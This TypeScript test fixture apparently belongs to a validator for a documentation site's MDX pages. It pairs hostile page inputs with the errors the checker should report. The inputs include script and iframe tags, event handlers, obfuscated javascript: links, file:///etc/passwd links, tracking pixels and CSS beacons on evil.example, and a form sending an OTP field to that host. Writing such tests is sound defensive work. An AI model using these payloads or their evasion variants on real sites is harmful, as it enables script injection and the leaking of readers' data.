const noProgram = 'Leave it out, or link to the page that has it: [words](https://…).';
const noLooks = 'Leave it out: pages look alike, and the site has the colours for light and dark.';
const ofFrontMatter = 'Leave it out: title and description of a page are in its front matter.';
const braces = 'Put it between backticks, or write \\{ for { if it is meant as text.';
const component = 'Take it out: a component for pages is a part of the site (src/theme/MDXComponents.tsx).';
const fragment = 'Take the line and what it names out; a fragment is imported as ./_partials/name.mdx.';
const toPage = 'Link to a page, [words](page.mdx), or to another site with https:.';
const beside = 'Save it beside the page and write ![What it shows](picture.png).';
const raw = `has dangerouslySetInnerHTML, which puts raw HTML into the page. ${noProgram}`;

const foreign = (name: string): string => `has <${name}>, which pages of this site do not use.`;
const begins = (scheme: string): string => `has a link that begins with "${scheme}", which no page needs. ${toPage}`;
const code = (written: string): string => `has ${written}, and what is in braces is read as code. ${braces}`;
const picture = `has a picture of another site, which readers do not get. ${beside}`;

/** What would run something, or tell another site about the reader: what it is, its source, and line, rule and repair. */
export const hostile: readonly [what: string, source: string, mistakes: string[]][] = [
  ['a script', 'a\n\n<script src="https://evil.example/a.js"></script>', [`3 ${foreign('script')} ${noProgram}`]],
  ['a script of a line', 'a\n\n<script>alert(1)</script>', [`3 ${foreign('script')} ${noProgram}`]],
  ['a frame', 'a\n\n<iframe src="https://evil.example/"></iframe>', [`3 ${foreign('iframe')} ${noProgram}`]],
  ['a frame with a document', 'a\n\n<iframe srcdoc="&lt;script>" />', [`3 ${foreign('iframe')} ${noProgram}`]],
  ['a form to another site', '<form action="https://evil.example/">\n\na\n\n</form>', [`1 ${foreign('form')} ${noProgram}`]],
  [
    'a field of one',
    'a\n\n<input name="otp" /> <button formaction="https://evil.example/">b</button>',
    [`3 ${foreign('input')} ${noProgram}`, `3 ${foreign('button')} ${noProgram}`],
  ],
  [
    'a refresh',
    'a\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/" />',
    [`3 ${foreign('meta')} ${ofFrontMatter}`],
  ],
  ['a base', '<base href="https://evil.example/" />', [`1 ${foreign('base')} ${ofFrontMatter}`]],
  ['an object', '<object data="a.swf" />\n\n<embed src="a.swf" />', [`1 ${foreign('object')} ${noProgram}`, `3 ${foreign('embed')} ${noProgram}`]],
  ['a style sheet of another site', '<link rel="stylesheet" href="https://evil.example/a.css" />', [`1 ${foreign('link')} ${noLooks}`]],
  ['a style', 'a\n\n<style>{`p {background: url(https://evil.example/)}`}</style>', [`3 ${foreign('style')} ${noLooks}`]],
  ['a style at an element', '<p style={{background: "url(https://evil.example/)"}}>a</p>', [`1 has style at <p>. ${noLooks}`]],
  ['a drawing with a script', '<svg>\n<script>alert(1)</script>\n</svg>', [`1 ${foreign('svg')} ${noProgram}`, `2 ${foreign('script')} ${noProgram}`]],
  ['a drawing with a handler', '<svg onload="alert(1)" />', [`1 ${foreign('svg')} ${noProgram}`]],
  ['formulas', '<math><mtext>a</mtext></math>', ['math','mtext'].map((name) => `1 ${foreign(name)} Write it in Markdown.`)],
  ['a template', '<template>a</template>', [`1 ${foreign('template')} Write it in Markdown.`]],
  ['a handler', '<p onmouseover="alert(1)">a</p>', [`1 has onMouseOver at <p>, which is a program. ${noProgram}`]],
  ['a handler in capitals', '<p OnClick="alert(1)">a</p>', [`1 has OnClick at <p>, which is a program. ${noProgram}`]],
  ['a link that runs', '[a](javascript:alert(1))', [`1 ${begins('javascript:')}`]],
  ['such a link in capitals', 'a\n[b](JaVaScRiPt:alert%281%29)', [`2 ${begins('javascript:')}`]],
  ['such a link in entities', '[a](&#106;avascript&colon;alert%281%29)', [`1 ${begins('javascript:')}`]],
  ['such a link with a tab', '[a](java&Tab;script:alert%281%29)', [`1 ${begins('javascript:')}`]],
  ['such a link with a line end', '[a](java&NewLine;script:alert%281%29)', [`1 ${begins('javascript:')}`]],
  ['such a link behind a space', '[a](&#32;javascript:alert%281%29)', [`1 ${begins('javascript:')}`]],
  ['such a link below', '[a][x]\n\n[x]: javascript:alert%281%29', [`3 ${begins('javascript:')}`]],
  ['a link with a page in it', '[a](data:text/html;base64,PHNjcmlwdD4=)', [`1 ${begins('data:')}`]],
  ['links of other programs', '[a](vbscript:a) [b](file:///etc/passwd) [c](blob:x)', ['vbscript:', 'file:', 'blob:'].map((scheme) => `1 ${begins(scheme)}`)],
  ['a pixel of another site', '![a](https://evil.example/a.gif?page=1)', [`1 ${picture}`]],
  ['a pixel without a scheme', '![a](//evil.example/a.gif)', [`1 ${picture}`]],
  ['a pixel with other slashes', '![a](\\\\\\\\evil.example/a.gif)\n\n![b](/\\evil.example/a.gif)', [`1 ${picture}`, `3 ${picture}`]],
  ['a pixel in capitals and entities', '![a](HTTPS&colon;//evil.example/a.gif)', [`1 ${picture}`]],
  ['a pixel below', '![a][x]\n\n[x]: https://evil.example/a.gif', [`3 ${picture}`]],
  ['a picture with a document', '![a](data:image/svg+xml,a)', [`1 has a picture that begins with "data:". ${beside}`]],
  ['code for the page', 'a\n\nexport const x = alert();', [`3 exports code, and pages hold text. ${component}`]],
  ['a component of its own', 'export default function X() {\n  return <script>alert(1)</script>;\n}', [`1 exports code, and pages hold text. ${component}`]],
  ['code of another file', "import './a.js';", [`1 imports "./a.js", and pages import only tabs and fragments. ${fragment}`]],
  [
    'components that run code',
    "import Head from '@docusaurus/Head';\nimport A from '@site/src/theme/MDXComponents';",
    ['@docusaurus/Head', '@site/src/theme/MDXComponents'].map(
      (name, index) => `${index + 1} imports "${name}", and pages import only tabs and fragments. ${fragment}`,
    ),
  ],
  ['a fragment read by another program', "import A from '!raw-loader!./a.mdx';", [`1 imports "!raw-loader!./a.mdx", and pages import only tabs and fragments. ${fragment}`]],
  ['code in a sentence', 'a {alert(1)} b', [`1 ${code('{alert(1)}')}`]],
  ['a script in braces', 'a\n\n{<script>alert(1)</script>}', [`3 ${code('{<script>alert(1)</script>}')}`]],
  ['code in an attribute', '<p title={alert(1)}>a</p>', [`1 ${code('{alert(1)}')}`]],
  ['code in words', 'a {`${alert(1)}`} b', [`1 ${code('{`${alert(1)}`}')}`]],
  ['code behind a name of MDX', '{props.components.a.constructor("alert(1)")()}', [`1 ${code('{props.components.a.constructor("alert(1)")()}')}`]],
  ['attributes from code', '<p {...{title: "a"}}>a</p>', [`1 ${code('{...{title: "a"}}')}`]],
  ['raw HTML', '<div dangerouslySetInnerHTML={{__html: "<script>alert(1)</script>"}} />', [`1 has dangerouslySetInnerHTML at <div>, which pages of this site do not use. Leave it out.`, `1 ${raw}`]],
  ['raw HTML in a component', '<Details dangerouslySetInnerHTML={{__html: "<b>"}} />', [`1 ${raw}`]],
  ['raw HTML deep in a component', '<Details summary={{props: {dangerouslySetInnerHTML: {__html: "<b>"}}}} />', [`1 ${raw}`]],
  ['markup of the build', '<StaticHtml html="<script>alert(1)</script>" />', [`1 ${foreign('StaticHtml')} ${noProgram}`]],
  ['the head of the page', '<Head>\n\na\n\n</Head>', [`1 ${foreign('Head')} ${ofFrontMatter}`]],
  ['elements behind a name', '<props.components.Head />', [`1 has <props.components.Head>, which is no element. Put it between backticks, or write &lt; for < if it is meant as text.`]],
  ['a popover', '<div popover="auto" id="a">a</div>', [`1 has popover at <div>, which pages of this site do not use. Leave it out.`]],
  ['data for the scripts of the site', '<p data-sample="curl">a</p>', [`1 has data-sample at <p>, which pages of this site do not use. Leave it out.`]],
];
